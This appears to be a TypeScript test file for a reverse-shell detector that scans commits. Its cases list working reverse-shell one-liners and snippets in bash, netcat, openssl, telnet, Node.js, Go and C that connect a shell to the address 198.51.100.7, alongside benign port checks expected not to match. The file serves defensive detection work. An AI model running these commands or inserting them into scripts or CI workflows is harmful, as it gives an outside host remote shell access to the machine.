import detector from "../../../../src/engine/detectors/content/reverse-shell.ts";
import { aCommit, aFile } from "../../../../src/engine/model/examples.ts";
import { strengthsOf } from "../run-detector.ts";

const DEVICE = ["/dev", "tcp"].join("/");
const change = (path: string, added: string) => aCommit({ files: [aFile({ path, added, at: 5 })] });

test.each([
  ["bash", "a.sh", `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`, ["strong"]],
  ["netcat", "a.sh", "nc 198.51.100.7 4444 -e /bin/sh", ["strong"]],
  [
    "Node.js",
    "src/a.js",
    'const s = net.connect(4444, h);\nconst p = spawn("/bin/sh", []);\ns.pipe(p.stdin);',
    ["strong"],
  ],
  ["Go", "a.go", 'c, _ := net.Dial("tcp", h)\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c', ["strong"]],
  ["C", "a.c", 'socket(AF_INET, 1, 0);\ndup2(s, 0);\nexecl("/bin/sh", "sh", 0);', ["strong"]],
  ["a test", "test/a.sh", `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`, ["medium"]],
  ["all streams at once", "a.sh", `bash >& ${DEVICE}/198.51.100.7/443 0>&1`, ["strong"]],
  [
    "a step of a workflow",
    ".github/workflows/a.yml",
    `      - run: bash -l > ${DEVICE}/198.51.100.7/443 0<&1 2>&1`,
    ["strong"],
  ],
  ["netcat's other switch", "a.sh", "nc -c bash 198.51.100.7 4444", ["strong"]],
  [
    "a pipe with a name",
    "a.sh",
    "mkfifo p; sh -i < p 2>&1 | openssl s_client -quiet -connect 198.51.100.7:443 > p",
    ["strong"],
  ],
  ["a terminal of old", "a.sh", "telnet 198.51.100.7 4444 < p | sh > p", ["strong"]],
  ["a certificate that is shown", "a.sh", "openssl s_client -connect db:443 < /dev/null | openssl x509 -noout", []],
  ["a port that is asked for its greeting", "a.sh", 'echo QUIT | telnet db 25 | grep "220 "', []],
  ["a probe of a port", "a.sh", `timeout 1 bash -c "</dev/null > ${DEVICE}/db/5432"`, []],
  ["netcat that listens to nothing", "a.sh", "nc -z db 5432", []],
  ["a comment", "a.sh", `# bash -i >& ${DEVICE}/198.51.100.7/4444`, []],
] as const)("%s", (_, path, added, expected) => {
  expect(strengthsOf(detector, change(path, added))).toEqual(expected);
});
